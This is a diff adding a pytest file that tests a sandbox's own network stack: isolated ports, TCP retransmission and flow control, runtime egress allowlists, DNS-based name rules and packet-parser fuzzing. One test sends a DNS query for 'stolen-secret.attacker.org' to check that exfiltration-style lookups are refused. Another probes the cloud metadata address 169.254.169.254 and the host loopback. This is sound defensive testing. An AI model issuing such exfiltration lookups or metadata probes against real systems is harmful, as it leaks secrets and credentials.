@@ -1,0 +1,340 @@
+"""The carried network: a sandbox' own ports and connections, rules that are kept to, packets that are nonsense."""
+
+import asyncio
+import contextlib
+import hashlib
+import os
+import signal
+import socket
+from collections.abc import AsyncIterator, Awaitable, Callable
+from contextlib import asynccontextmanager
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from sandtui.local.drivers.namespace import probe
+from sandtui.local.egress import Policy
+from sandtui.local.network import dns
+from sandtui.local.network import stack as stack_module
+from sandtui.local.network.packets import (
+    ACK,
+    FIN,
+    PSH,
+    RST,
+    SYN,
+    Datagram,
+    Segment,
+    build_datagram,
+    build_segment,
+    option,
+    parse,
+)  # fmt: skip
+from sandtui.local.network.stack import RESOLVER, Stack
+from tests.local.support import GIVE_UP_SECONDS, Api
+from tests.local.test_local_ports import expose, page, serve
+
+Answer = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
+
+
+def own_address() -> str:
+    """Return an address of this machine that is not its loopback."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe_socket:
+        try:
+            probe_socket.connect(("192.0.2.1", 9))
+        except OSError:
+            pytest.skip("this machine has no network")
+        return str(probe_socket.getsockname()[0])
+
+
+@pytest.fixture
+async def carried(isolated: Api, tmp_path: Path) -> Api:
+    reason = await probe(tmp_path, mapped=os.geteuid() == 0, network="user")
+    if reason is not None:
+        pytest.skip(f"no TUN device here: {reason}")
+    return isolated
+
+
+@asynccontextmanager
+async def server(answer: Answer, host: str | None = None) -> AsyncIterator[tuple[str, int]]:
+    host = host or own_address()
+    listening = await asyncio.start_server(answer, host, 0)
+    async with listening:
+        yield host, listening.sockets[0].getsockname()[1]
+
+
+async def echo(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    while data := await reader.read(65536):
+        writer.write(data)
+        await writer.drain()
+    writer.close()
+
+
+def connect(host: str, port: int, then: str = "print('in')") -> str:
+    return f"python3 -c \"import socket; s = socket.create_connection(('{host}', {port}), 5); {then}\""
+
+
+async def test_sandboxes_with_a_network_have_ports_of_their_own(carried: Api) -> None:
+    boxes = [await carried.running(environment_vars={"WHO": f"box {n}"}) for n in range(3)]
+    urls = []
+    for box in boxes:
+        await serve(carried, box, 8000)
+        urls.append((await expose(carried, box, 8000))["url"])
+    assert [(await page(url)).text for url in urls] == ["box 0", "box 1", "box 2"]
+    async with httpx.AsyncClient() as client:
+        with pytest.raises(httpx.ConnectError):
+            await client.get("http://127.0.0.1:8000", timeout=2)
+
+
+async def test_megabytes_pass_whole_both_ways(carried: Api) -> None:
+    box = await carried.running()
+    async with server(echo) as (host, port):
+        program = (
+            "import hashlib, os, socket, threading\n"
+            f"s = socket.create_connection(('{host}', {port}))\n"
+            "data = os.urandom(20_000_000)\n"
+            "threading.Thread(target=lambda: (s.sendall(data), s.shutdown(1))).start()\n"
+            "back = b''.join(iter(lambda: s.recv(1 << 20), b''))\n"
+            "print(back == data, len(back))\n"
+        )
+        await carried.upload(box, "/tmp/p.py", program.encode())
+        assert await carried.output(box, "python3 /tmp/p.py") == "True 20000000\n"
+
+
+async def test_a_slow_reader_is_waited_for(carried: Api) -> None:
+    box = await carried.running()
+    data = os.urandom(12_000_000)
+
+    async def give(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        writer.write(data)
+        await writer.drain()
+        writer.close()
+
+    async with server(give) as (host, port):
+        program = (
+            "import hashlib, socket, time\n"
+            f"s = socket.create_connection(('{host}', {port}))\n"
+            "time.sleep(1.5)\n"
+            "print(hashlib.md5(b''.join(iter(lambda: s.recv(1 << 16), b''))).hexdigest())\n"
+        )
+        await carried.upload(box, "/tmp/p.py", program.encode())
+        assert (await carried.output(box, "python3 /tmp/p.py")).strip() == hashlib.md5(data).hexdigest()
+
+
+async def test_refusals_come_at_once_and_the_machines_loopback_is_out_of_reach(carried: Api) -> None:
+    box = await carried.running()
+    async with server(echo, "127.0.0.1") as (_, port):
+        for host in (own_address(), "127.0.0.1", "127.0.0.2", "10.0.2.2", "169.254.169.254", "0.0.0.0"):
+            reply = (await carried.run(box, connect(host, port))).json()
+            assert "ConnectionRefused" in reply["stderr"], host
+
+
+async def test_rules_hold_and_can_be_changed_while_it_runs(carried: Api) -> None:
+    async with server(echo) as (host, port), server(echo) as (_, other):
+        box = await carried.running(network_allowlist=[f"{host}:{port}"])
+        assert (await carried.call("GET", f"/sandbox/{box}/egress-policy")).json()["applied"] is True
+        assert await carried.output(box, connect(host, port)) == "in\n"
+        assert "Refused" in (await carried.run(box, connect(host, other))).json()["stderr"]
+        hold = connect(host, port, "s.sendall(b'x'); s.recv(1); print('held', flush=True); print(s.recv(1))")
+        holding = asyncio.create_task(carried.run(box, hold))
+        await asyncio.sleep(0.5)
+        body = {"allowlist": None, "denylist": [f"{host}:{port}"]}
+        reply = (await carried.call("PUT", f"/sandbox/{box}/egress-policy", json=body)).json()
+        assert (reply["applied"], reply["generation"]) == (True, 2)
+        ended = (await holding).json()
+        assert ended["stdout"] == "held\n" and "ConnectionReset" in ended["stderr"], "an open connection went on"
+        assert "Refused" in (await carried.run(box, connect(host, port))).json()["stderr"]
+        assert await carried.output(box, connect(host, other)) == "in\n"
+        await carried.call("PUT", f"/sandbox/{box}/egress-policy", json={"allowlist": [], "denylist": None})
+        assert "Refused" in (await carried.run(box, connect(host, other))).json()["stderr"]
+
+
+async def test_a_worker_that_dies_is_replaced(carried: Api) -> None:
+    box = await carried.running()
+    async with server(echo) as (host, port):
+        assert await carried.output(box, connect(host, port)) == "in\n"
+        carrier = carried.platform.driver._carrier  # type: ignore[attr-defined]
+        os.kill(carrier._process.pid, signal.SIGKILL)
+        async with asyncio.timeout(GIVE_UP_SECONDS):
+            while (await carried.run(box, connect(host, port))).json()["exit_code"]:
+                await asyncio.sleep(0.05)
+
+
+# The stack alone: a datagram socket stands for the device, so that each packet is the test's own.
+
+
+class Wire:
+    """A sandbox' end of a stack."""
+
+    def __init__(self, policy: Policy) -> None:
+        self._ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
+        self._ours.setblocking(False)
+        self.stack = Stack(theirs.detach(), policy)
+
+    def send(self, packet: bytes) -> None:
+        self._ours.send(packet)
+
+    async def receive(self) -> Any:
+        async with asyncio.timeout(GIVE_UP_SECONDS):
+            return parse(await asyncio.get_running_loop().sock_recv(self._ours, 70000))
+
+    def close(self) -> None:
+        self.stack.close()
+        self._ours.close()
+
+
+def segment(flags: int, seq: int, ack: int, target: tuple[str, int], data: bytes = b"", window: int = 65535) -> bytes:
+    host, port = target
+    return build_segment(Segment("10.0.2.100", 40000, host, port, seq, ack, flags, window, b"", data))
+
+
+@pytest.fixture
+async def wire() -> AsyncIterator[Any]:
+    made = []
+
+    def make(policy: Policy = Policy()) -> Wire:  # noqa: B008
+        made.append(Wire(policy))
+        return made[-1]
+
+    yield make
+    for one in made:
+        one.close()
+
+
+async def test_what_is_lost_is_sent_again(wire: Any) -> None:
+    async def hello(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        assert await reader.readexactly(3) == b"abc"
+        writer.write(b"hello")
+        writer.close()
+
+    async with server(hello) as target:
+        box = wire()
+        box.send(segment(SYN, 1000, 0, target))
+        answer = await box.receive()
+        assert (answer.flags, answer.seq, answer.ack) == (SYN | ACK, 0, 1001)
+        box.send(segment(SYN, 1000, 0, target))
+        assert (await box.receive()).flags == SYN | ACK, "a SYN that was sent again is answered again"
+        box.send(segment(ACK, 1001, 1, target))
+        box.send(segment(ACK | PSH, 1002, 1, target, b"bc"))
+        assert (await box.receive()).ack == 1001, "what is missing is asked for"
+        box.send(segment(ACK | PSH, 1001, 1, target, b"abc"))
+        assert (await box.receive()).ack == 1004
+        data = await box.receive()
+        assert (data.seq, data.data) == (1, b"hello")
+        fin = await box.receive()
+        assert (fin.flags & FIN, fin.seq) == (FIN, 6)
+        again, fin_again = await box.receive(), await box.receive()
+        assert (again.seq, again.data, fin_again.flags & FIN, fin_again.seq) == (1, b"hello", FIN, 6)
+        box.send(segment(ACK, 1004, 7, target))
+        box.send(segment(FIN | ACK, 1004, 7, target))
+        assert (await box.receive()).ack == 1005
+        assert box.stack._tcp == {}
+
+
+async def test_a_closed_window_is_asked_until_it_opens(wire: Any) -> None:
+    async def give(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        writer.write(b"x" * 1000)
+        await writer.drain()
+        with contextlib.suppress(ConnectionError):
+            await reader.read()
+        writer.close()
+        gone.set()
+
+    gone = asyncio.Event()
+    async with server(give) as target:
+        box = wire()
+        box.send(segment(SYN, 5, 0, target, window=0))
+        await box.receive()
+        box.send(segment(ACK, 6, 1, target, window=0))
+        asked = await box.receive()
+        assert (asked.seq, asked.data) == (1, b"x")
+        box.send(segment(ACK, 6, 1, target, window=300))
+        assert len((await box.receive()).data) == 300
+        box.send(segment(ACK, 6, 301, target, window=5000))
+        assert len((await box.receive()).data) == 536, "no segment is larger than the sandbox said it takes"
+        box.send(segment(RST, 6, 301, target))
+        async with asyncio.timeout(GIVE_UP_SECONDS):
+            await gone.wait()
+
+
+async def test_what_belongs_to_nothing_is_reset(wire: Any) -> None:
+    box = wire(Policy.of(["192.0.2.1"], None))
+    box.send(segment(ACK, 7, 9, ("192.0.2.1", 80), b"data"))
+    reset = await box.receive()
+    assert (reset.flags & RST, reset.seq, reset.ack) == (RST, 9, 11)
+    box.send(segment(SYN, 7, 0, ("198.51.100.1", 80)))
+    assert (await box.receive()).flags & RST
+
+
+def dns_message(name: str, *addresses: str) -> bytes:
+    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
+    head = b"\x12\x34\x81\x80\x00\x01" + len(addresses).to_bytes(2, "big") + b"\0\0\0\0"
+    rows = b"".join(b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + socket.inet_aton(one) for one in addresses)
+    return head + labels + b"\0\1\0\1" + rows
+
+
+async def test_names_are_kept_to_by_what_the_resolver_says(wire: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(stack_module.dns, "name_server", lambda: "127.0.0.1")
+    box = wire(Policy.of(["*.example.com"], None))
+    box.send(build_datagram(Datagram("10.0.2.100", 5000, RESOLVER, 53, dns_message("stolen-secret.attacker.org"))))
+    answer = await box.receive()
+    assert (answer.source, answer.source_port, answer.data[3] & 15) == (RESOLVER, 53, 5), "the question went out"
+    box.stack.answer(("10.0.2.100", 5000, RESOLVER, 53), dns_message("a.example.com", "198.51.100.7"))
+    await box.receive()
+    assert box.stack._allows("198.51.100.7", 443)
+    assert not box.stack._allows("198.51.100.8", 443)
+
+
+async def test_datagrams_go_and_come_back(wire: Any) -> None:
+    class Echo(asyncio.DatagramProtocol):
+        def connection_made(self, transport: Any) -> None:
+            self.transport = transport
+
+        def datagram_received(self, data: bytes, addr: Any) -> None:
+            self.transport.sendto(data[::-1], addr)
+
+    loop = asyncio.get_running_loop()
+    transport, _ = await loop.create_datagram_endpoint(Echo, local_addr=(own_address(), 0))
+    host, port = transport.get_extra_info("sockname")
+    box = wire()
+    for data in (b"abc", b"x" * 9000):
+        box.send(build_datagram(Datagram("10.0.2.100", 5000, host, port, data)))
+        back = await box.receive()
+        assert (back.source, back.source_port, back.target_port, back.data) == (host, port, 5000, data[::-1])
+    transport.close()
+
+
+@given(st.binary(max_size=200))
+def test_any_bytes_are_a_packet_or_nothing(data: bytes) -> None:
+    found = parse(data)
+    if isinstance(found, Segment):
+        option(found, 2)
+    dns.question(data)
+    dns.addresses(data)
+
+
+@given(
+    st.ip_addresses(v=4), st.ip_addresses(v=4), st.integers(0, 65535), st.integers(0, 65535), st.integers(0, 2**32 - 1),
+    st.integers(0, 63), st.binary(max_size=100),
+)  # fmt: skip
+def test_segments_come_back(one: Any, other: Any, sport: int, dport: int, seq: int, flags: int, data: bytes) -> None:
+    whole = Segment(str(one), sport, str(other), dport, seq, 7, flags, 99, b"\2\4\5\xb4", data)
+    assert parse(build_segment(whole)) == whole
+    sent = Datagram(str(one), sport, str(other), dport, data)
+    assert parse(build_datagram(sent)) == sent
+
+
+@pytest.mark.parametrize(
+    ("text", "wanted"),
+    [
+        ("nameserver 192.0.2.9\n", "192.0.2.9"),
+        ("# x\nnameserver ::1\nnameserver 192.0.2.8 # y", "192.0.2.8"),
+        ("", None),
+    ],
+)
+def test_the_machines_resolver_is_found(tmp_path: Path, text: str, wanted: str | None) -> None:
+    (tmp_path / "resolv.conf").write_text(text)
+    assert dns.name_server(tmp_path / "resolv.conf") == wanted
